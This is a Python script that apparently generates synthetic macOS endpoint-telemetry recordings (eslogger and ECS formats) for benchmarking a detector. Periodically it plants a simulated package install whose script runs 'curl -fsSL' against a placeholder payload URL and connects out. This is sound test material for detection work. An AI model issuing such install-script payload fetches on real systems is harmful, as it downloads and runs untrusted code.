#!/usr/bin/env python3
"""Writes large recordings to measure with: an ordinary day, with an attack planted now and then.

    python3 tests/data/replay/corpus.py eslogger 200000 > eslogger.ndjson
    python3 tests/data/replay/corpus.py ecs 500000 > ecs.ndjson

The same arguments give the same bytes. Every 2,000th spell of ordinary work is an install whose script runs curl; the
number of those is written to standard error. Nothing of it is committed.
"""

import datetime
import json
import random
import sys

sys.dont_write_bytecode = True

from recorder import BASH, CURL, SCRIPT_SERVICE, SH, Mac, Package, apple  # noqa: E402

TOOLS = [apple(path) for path in ("/bin/ls", "/usr/bin/git", "/usr/bin/grep", "/usr/bin/ssh", "/bin/cp", "/usr/bin/make")]
PLANTED = 2000


def eslogger(lines):
    """Forks, execs and exits of shells and tools, flows between them."""
    mac = Mac("corpus", version=9)
    rng = random.Random(1)
    written = installs = spells = 0

    def flush():
        nonlocal written
        for name in list(mac.files):
            for line in mac.files[name]:
                if written < lines:
                    sys.stdout.buffer.write(line + b"\n")
                    written += 1
            mac.files[name].clear()

    while written < lines:
        spells += 1
        if spells % PLANTED == 0:
            installs += 1
            service = mac.starts(SCRIPT_SERVICE)
            package = Package(mac, "com.example.tool", "/Users/tove/Downloads/Tool.pkg")
            shell = package.runs(service)
            curl = shell.spawns(CURL, "curl", "-fsSL", "https://cdn.example.com/payload")
            curl.connects("198.51.100.7")
            for process in (curl, shell, service):
                process.exits()
        shell = mac.starts(BASH, "/bin/zsh", "-l", uid=501)
        for _ in range(rng.randint(1, 6)):
            words = [f"--option-{rng.randint(0, 99)}" for _ in range(rng.randint(1, 12))]
            tool = shell.spawns(rng.choice(TOOLS), "tool", *words)
            if rng.random() < 0.1:
                tool.connects(f"198.51.100.{rng.randint(1, 254)}")
            mac.wait(rng.random())
            tool.exits()
        shell.exits()
        flush()
    print(f"{installs} installs planted", file=sys.stderr)


def ecs(lines):
    """Process and network documents of some 800 bytes, in ECS's nested form."""
    rng = random.Random(1)
    time, installs, number = 1_795_000_000_000, 0, 0

    def emit(category, action, name, parent, entity, **more):
        nonlocal time, number
        time += rng.randint(0, 20)
        number += 1
        seconds, ms = divmod(time, 1000)
        stamp = datetime.datetime.fromtimestamp(seconds, datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S")
        document = {
            "@timestamp": f"{stamp}.{ms:03}Z",
            "agent": {"id": "0b5c1c52-0000-4000-8000-000000000001", "type": "endpoint", "version": "9.2.0"},
            "ecs": {"version": "9.0.0"},
            "event": {"kind": "event", "category": [category], "type": ["start"], "action": action, "sequence": number},
            "host": {"id": "6f3a0000-0000-4000-8000-000000000002", "name": "mac-1",
                     "os": {"type": "macos", "family": "macos", "name": "macOS", "version": "26.1"}},
            "user": {"id": "501", "name": "tove"},
            "process": {"pid": rng.randint(300, 99_000), "entity_id": entity, "name": name,
                        "executable": f"/usr/bin/{name}",
                        "code_signature": {"exists": True, "trusted": True, "signing_id": f"com.apple.{name}"}},
        }
        document["process"].update(more.pop("process", {}))
        if parent:
            document["process"]["parent"] = {"name": parent, "pid": 1, "executable": f"/bin/{parent}"}
        document.update(more)
        sys.stdout.write(json.dumps(document, separators=(",", ":")) + "\n")

    while number < lines:
        if number % PLANTED == PLANTED - 2:
            installs += 1
            args = {"args": ["/bin/sh", "/tmp/x/postinstall"], "command_line": "/bin/sh /tmp/x/postinstall"}
            emit("process", "exec", "bash", "package_script_service", f"e{number}", process=args)
            emit("network", "connection_attempted", "curl", None, f"e{number}", process={},
                 destination={"ip": "198.51.100.7", "port": 443}, network={"transport": "tcp", "direction": "egress"})
        elif rng.random() < 0.6:
            name = rng.choice(["git", "ls", "grep", "zsh", "mdworker_shared", "make", "ssh", "curl"])
            words = [name] + [f"--option-{rng.randint(0, 99)}" for _ in range(rng.randint(1, 12))]
            emit("process", "exec", name, rng.choice(["zsh", "launchd", "make"]), f"e{number}",
                 process={"args": words, "args_count": len(words), "command_line": " ".join(words)})
        else:
            emit("network", "connection_attempted", rng.choice(["Safari", "ssh", "git"]), None, f"e{number}", process={},
                 destination={"ip": f"198.51.100.{rng.randint(1, 254)}", "port": 443},
                 network={"transport": "tcp", "direction": "egress", "type": "ipv4"})
    print(f"{installs} installs planted", file=sys.stderr)


if len(sys.argv) != 3 or sys.argv[1] not in ("eslogger", "ecs"):
    sys.exit(__doc__)
{"eslogger": eslogger, "ecs": ecs}[sys.argv[1]](int(sys.argv[2]))
